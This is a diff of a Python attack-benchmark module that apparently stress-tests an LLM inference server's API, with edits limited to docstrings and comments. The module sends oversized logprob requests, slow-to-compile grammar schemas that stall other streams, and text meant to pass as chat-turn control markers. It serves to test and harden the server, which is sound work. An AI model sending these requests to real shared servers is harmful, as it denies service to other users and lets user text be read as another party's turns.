@@ -1,5 +1,7 @@
-"""Answers that are expensive to write down, text that would be turns, and grammars that are expensive to compile: each
-held up other streams for seconds once, or was taken for somebody else's words."""
+"""Answers that are expensive to serialise, text that looks like turns, and grammars that are expensive to compile.
+
+Each of these once blocked other streams for seconds, or passed a user's text off as someone else's words.
+"""
 
 from __future__ import annotations
 
@@ -13,7 +15,7 @@ from benchmarks.attack.target import Finding, Target
 
 CHAT, COMPLETIONS = "/v1/chat/completions", "/v1/completions"
 USER = {"role": "user", "content": "x"}
-# llguidance works on it for half a minute
+# llguidance needs half a minute for it.
 SLOW_PARTS = [{"type": "integer", "multipleOf": 131 + number} for number in range(500)]
 SLOW_PROPERTIES = {
     f"p{number}": {"allOf": [part, {"type": "integer", "multipleOf": 137}]}
@@ -27,7 +29,7 @@ def _client(target: Target) -> httpx.AsyncClient:
 
 
 async def attack_prompt_logprobs(target: Target) -> Finding:
-    """Each prompt was within the limit, and all of them together were not."""
+    """Each prompt is within the limit, but all of them together are not."""
     async with _client(target) as http:
         asked: dict[str, Any] = {"prompt": [7] * 1000, "prompt_logprobs": 20, "max_tokens": 1}
         many = [
@@ -36,7 +38,7 @@ async def attack_prompt_logprobs(target: Target) -> Finding:
             asked | {"prompt_logprobs": None, "logprobs": 20, "echo": True, "best_of": 16},
         ]
         refused = await asyncio.gather(*(http.post(COMPLETIONS, json=body) for body in many))
-        # as large as they may be, several at a time
+        # Bodies of the largest allowed size, several at a time.
         large = await asyncio.gather(*(http.post(COMPLETIONS, json=asked | {"n": 6}) for _ in range(2)))
     statuses = [answer.status_code for answer in refused], [answer.status_code for answer in large]
     longest = max(len(answer.content) for answer in large)
@@ -45,7 +47,7 @@ async def attack_prompt_logprobs(target: Target) -> Finding:
 
 
 async def attack_long_logprobs(target: Target) -> Finding:
-    """Each token cost as much as all before it."""
+    """Each token once cost as much as all before it."""
     asked: dict[str, Any] = {"prompt": [7], "logprobs": 20, "ignore_eos": True, "max_tokens": 700}
     async with _client(target) as http:
         refused = await http.post(COMPLETIONS, json=asked | {"n": 128, "max_tokens": 1500})
@@ -63,7 +65,7 @@ async def attack_long_logprobs(target: Target) -> Finding:
 
 
 async def attack_turns_in_text(target: Target) -> Finding:
-    """Wherever a client can write, it writes turns."""
+    """It writes turns wherever a client can write text."""
     async with _client(target) as http:
 
         async def num_control(content: Any, role: str = "user", **more: Any) -> int | None:
@@ -93,13 +95,13 @@ async def attack_turns_in_text(target: Target) -> Finding:
 
 
 async def attack_slow_grammars(target: Target) -> Finding:
-    """Fourteen of them, and a simple one: it waited for all that came before."""
+    """Sends fourteen of them and a simple one, which once waited for all that came before it."""
     async with _client(target) as http:
 
         def asked(wanted: dict[str, Any]) -> dict[str, Any]:
             return {"messages": [USER], "max_tokens": 1, "structured_outputs": wanted}
 
-        # the process that compiles is there from now on
+        # This starts the process that compiles, so that it runs from now on.
         await http.post(CHAT, json=asked({"regex": "a"}))
         schemas = [
             {"type": "object", "properties": SLOW_PROPERTIES, "title": str(number)} for number in range(14)
@@ -113,6 +115,6 @@ async def attack_slow_grammars(target: Target) -> Finding:
         for each in slow:
             each.cancel()
         await asyncio.gather(*slow, return_exceptions=True)
-    # one after the other, they would have taken a second each
+    # One after the other, they would have taken a second each.
     held = simple.status_code == 200 and num_left > 7
     return Finding("slow grammars", held, f"a simple one took {seconds:.2f} s, with {num_left} of 14 to come")
